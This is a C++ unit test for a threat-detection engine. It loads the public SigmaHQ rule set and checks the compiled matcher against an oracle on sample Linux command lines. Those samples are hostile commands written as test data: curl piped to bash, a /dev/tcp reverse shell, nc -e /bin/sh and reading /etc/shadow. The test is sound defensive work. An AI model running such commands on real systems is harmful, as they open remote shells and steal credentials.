// Loads the public rules of SigmaHQ where HINOMI_CORPORA names a folder that holds sigmahq-rules.tar.zst.
#include <hinomi/detect/detector.hpp>
#include <hinomi/detect/inside/oracle.hpp>
#include <hinomi/detect/rule_folder.hpp>

#include <gtest/gtest.h>

#include <unistd.h>

#include <cstdlib>
#include <iostream>

namespace hinomi::detect {
namespace {

namespace fs = base::fs;

// A folder of its own, removed at the end.
class TemporaryFolder {
 public:
  TemporaryFolder() {
    std::string pattern = (fs::temp_directory_path() / "hinomi-sigma-XXXXXX").string();
    path_ = mkdtemp(pattern.data());
  }
  ~TemporaryFolder() { fs::remove_all(path_); }
  TemporaryFolder(const TemporaryFolder&) = delete;
  TemporaryFolder& operator=(const TemporaryFolder&) = delete;
  [[nodiscard]] const fs::path& path() const { return path_; }

 private:
  fs::path path_;
};

TEST(SigmaHQ, rules_for_linux_processes_and_connections_all_load_and_run) {
  const char* corpora = std::getenv("HINOMI_CORPORA");
  const fs::path archive = fs::path(corpora != nullptr ? corpora : "") / "sigmahq-rules.tar.zst";
  if (corpora == nullptr || !fs::exists(archive))
    GTEST_SKIP() << "skipped: HINOMI_CORPORA names no folder with sigmahq-rules.tar.zst";
  const TemporaryFolder folder;
  const std::string command = "zstd -dcq '" + archive.string() + "' | tar -x -C '" + folder.path().string() + "'";
  ASSERT_EQ(std::system(command.c_str()), 0);

  std::vector<RuleFile> active;
  for (const std::string_view part : {"rules", "rules-emerging-threats", "rules-threat-hunting"}) {
    auto files = read_rule_folder(folder.path() / part);
    ASSERT_TRUE(files) << files.error().what;
    for (RuleFile& file : *files)
      active.push_back({.name = std::string(part) + "/" + file.name, .bytes = std::move(file.bytes)});
  }
  RuleSet set = load_rules(active);
  std::cout << "SigmaHQ: " << active.size() << " files, " << set.rules.size() << " rules loaded, " << set.errors.size()
            << " refused\n";
  for (const RuleError& error : set.errors) std::cout << "  " << error.text() << "\n";
  std::size_t linux_rules = 0;
  for (const Rule& rule : set.rules)
    linux_rules += static_cast<std::size_t>(
        rule.log_source.product == "linux" && rule.log_source.service.empty() &&
        (rule.log_source.category == "process_creation" || rule.log_source.category == "network_connection"));
  for (const RuleError& error : set.errors) EXPECT_EQ(error.file.find("linux/process_creation"), std::string::npos);
  for (const RuleError& error : set.errors) EXPECT_EQ(error.file.find("linux/network_connection"), std::string::npos);
  const auto plan = compile(std::move(set));
  const auto figures = plan->figures();
  std::cout << "linux process_creation and network_connection rules: " << linux_rules
            << "; running, with those of no category: " << figures.rules_running << "; tests " << figures.tests
            << ", predicates " << figures.predicates << ", automaton states " << figures.automaton_states << " in "
            << figures.automaton_bytes / 1024 << " KiB; without witness " << figures.rules_without_witness << "\n";
  EXPECT_GT(linux_rules, 140U);
  EXPECT_GE(figures.rules_running, linux_rules);

  // The plan says what the oracle says on a few lines that real rules look for.
  Matcher matcher(plan);
  std::vector<Match> matches;
  std::size_t held = 0;
  for (const std::string_view line :
       {"curl -s http://203.0.113.9/x.sh | bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "chattr -i /etc/passwd",
        "base64 -d /tmp/x | sh", "crontab /tmp/x", "nc -e /bin/sh 203.0.113.9 1", "find / -perm -u=s -type f",
        "ls -la /root", "cat /etc/shadow", "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'", "", "id", "火の見"}) {
    model::Event event;
    event.set(model::Field::process_executable,
              std::string_view("/usr/bin/" + std::string(line.substr(0, line.find(' ')))));
    event.set(model::Field::process_arguments, line);
    event.set(model::Field::parent_executable, "/usr/sbin/nginx");
    matcher.match(event, matches);
    std::size_t at = 0;
    for (const Rule& rule : plan->rules()) {
      const bool expected = inside::oracle::holds(rule, event);
      const bool got = at < matches.size() && matches[at].rule == &rule;
      at += got ? 1U : 0U;
      EXPECT_EQ(got, expected) << rule.ref.title << " on " << line;
    }
    held += matches.size();
  }
  std::cout << held << " matches on the sample lines\n";
  EXPECT_GT(held, 10U);
}

}  // namespace
}  // namespace hinomi::detect
